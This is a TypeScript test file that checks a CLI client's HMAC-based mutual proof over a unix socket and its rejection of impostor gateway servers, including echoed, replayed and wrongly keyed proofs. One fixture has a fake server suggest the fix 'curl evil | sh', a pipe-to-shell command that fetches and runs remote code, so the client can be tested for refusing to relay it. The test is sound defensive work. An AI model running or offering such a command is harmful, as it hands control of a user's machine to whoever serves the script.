/** The client's half of the proof on the unix socket, against servers that are not what they seem. */
import { createHmac, randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type IncomingHttpHeaders } from 'node:http'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { WebSocketServer } from 'ws'
import { callGateway, findGateway, type Gateway } from '../../../kernel/cli/rpc.ts'
import { openSocket } from '../../../kernel/cli/socket.ts'
import { statePaths } from '../../../kernel/paths.ts'
import { stateDir } from './spawn.ts'

const secret = randomBytes(32).toString('base64url')
const options = { timeoutMs: 2_000 }

let state: string
let gateway: Gateway
let http: ReturnType<typeof createServer>
/** What the server says in proof of itself to the nonce of a request. */
let says: (nonce: string) => string | undefined
let answer: unknown
const seen: IncomingHttpHeaders[] = []

const nonceOf = ({ 'x-nexus-local': header = '' }: IncomingHttpHeaders): string => String(header).split('.')[1] ?? ''
const rightly = (nonce: string): string => createHmac('sha256', secret).update(`nexus-local-server|${nonce}`).digest('base64url')

beforeEach(async () => {
  state = stateDir()
  mkdirSync(join(state, 'auth'))
  writeFileSync(join(state, 'auth', 'local'), `${secret}\n1 1\n`)
  gateway = await findGateway({ url: undefined, tokenFile: undefined }, {}, statePaths({ NEXUS_STATE_DIR: state }))
  says = rightly
  answer = { ok: true, payload: 'pong' }
  seen.length = 0
  http = createServer((req, res) => {
    seen.push(req.headers)
    const proof = says(nonceOf(req.headers))
    req.resume().on('end', () => res.writeHead(200, proof === undefined ? {} : { 'X-Nexus-Proof': proof }).end(JSON.stringify(answer)))
  })
  new WebSocketServer({ server: http }).on('connection', (peer, { headers }) => {
    seen.push(headers)
    peer.send(JSON.stringify({ type: 'event', event: 'connect.challenge', payload: {} }))
    peer.on('message', (data) => {
      const { id } = JSON.parse(String(data)) as { id: string }
      const { ok, error } = answer as { ok: boolean; error?: unknown }
      peer.send(JSON.stringify({ type: 'res', id, ok, ...(ok ? { payload: { type: 'hello-ok', auth: { proof: says(nonceOf(headers)) } } } : { error }) }))
    })
  })
  await once(http.listen(join(state, 'gateway.sock')), 'listening')
})
afterEach(() => {
  http.closeAllConnections()
  http.close()
  rmSync(state, { recursive: true, force: true })
})

const ways = [
  ['a call', (to: Gateway): Promise<unknown> => callGateway(to, 'ping', undefined, options)],
  ['a WebSocket', async (to: Gateway): Promise<unknown> => { await using socket = await openSocket(to, 2_000); return socket.methods }],
] as const

describe.each(ways)('%s', (_, come) => {
  test('says that it knows the secret, each time in another way, and hears that the gateway does', async () => {
    await come(gateway)
    await come(gateway)
    const headers = seen.map((each) => String(each['x-nexus-local']))
    for (const header of headers) {
      const [at, nonce, mac] = header.split('.')
      expect(Math.abs(Number(at) - Date.now())).toBeLessThan(10_000)
      expect(Buffer.from(nonce!, 'base64url')).toHaveLength(16)
      expect(mac).toBe(createHmac('sha256', secret).update(`nexus-local-client|${at}|${nonce}`).digest('base64url'))
      expect(header).not.toContain(secret)
    }
    expect(new Set(headers).size).toBe(2)
  })

  test.each([
    ['says nothing', () => undefined],
    ['sends back what it was sent', (nonce: string) => nonce],
    ['knows another secret', (nonce: string) => createHmac('sha256', 'other').update(`nexus-local-server|${nonce}`).digest('base64url')],
    ['repeats what the gateway once said', () => rightly('AAAAAAAAAAAAAAAAAAAAAA')],
  ])('believes no server that %s', async (_name, said) => {
    says = said
    await expect(come(gateway)).rejects.toMatchObject({ code: 'NEXUS_CLI_IMPOSTOR', exit: 77, message: expect.stringContaining(join(state, 'auth', 'local')) as string })
  })

  test('believes no errors of such a server either, nor the fix it names', async () => {
    says = () => undefined
    answer = { ok: false, error: { code: 'UNAVAILABLE', message: 'run this', details: { fix: 'curl evil | sh', nexus: 'NEXUS_X_Y', code: 'SOME_CODE' } } }
    const error = await come(gateway).then(() => undefined, (thrown: unknown) => thrown as { code: string; message: string; fix: string })
    expect(error).toMatchObject({ code: 'NEXUS_CLI_IMPOSTOR', message: expect.stringContaining('(it said SOME_CODE)') as string })
    expect(error!.message + error!.fix).not.toMatch(/run this|evil/)
  })

  test('without the file proves nothing and demands nothing', async () => {
    rmSync(join(state, 'auth', 'local'))
    says = () => undefined
    await come(gateway)
    expect(seen[0]).not.toHaveProperty('x-nexus-local')
  })

  test('with a token comes as whoever that is, and proves nothing', async () => {
    says = () => undefined
    await come({ ...gateway, token: 'tok' })
    expect(seen[0]).not.toHaveProperty('x-nexus-local')
  })

  test('proves the secret that is in the file by now: a gateway may have started anew since', async () => {
    const next = randomBytes(32).toString('base64url')
    writeFileSync(join(state, 'auth', 'local'), `${next}\n2 2\n`)
    says = (nonce) => createHmac('sha256', next).update(`nexus-local-server|${nonce}`).digest('base64url')
    await come(gateway)
  })
})

test('an error of the gateway itself is as it says', async () => {
  answer = { ok: false, error: { code: 'FORBIDDEN', message: 'missing scope', details: { nexus: 'NEXUS_CALL_DENIED', fix: 'Use another.' } } }
  await expect(callGateway(gateway, 'ping', undefined, options)).rejects.toMatchObject({ code: 'NEXUS_CALL_DENIED', fix: 'Use another.' })
})

test('what is no answer at all is no impostor: the gateway may have ended meanwhile', async () => {
  http.removeAllListeners('request')
  http.on('request', (req) => req.socket.destroy())
  await expect(callGateway(gateway, 'ping', undefined, options)).rejects.toMatchObject({ code: 'NEXUS_CLI_UNREACHABLE' })
})
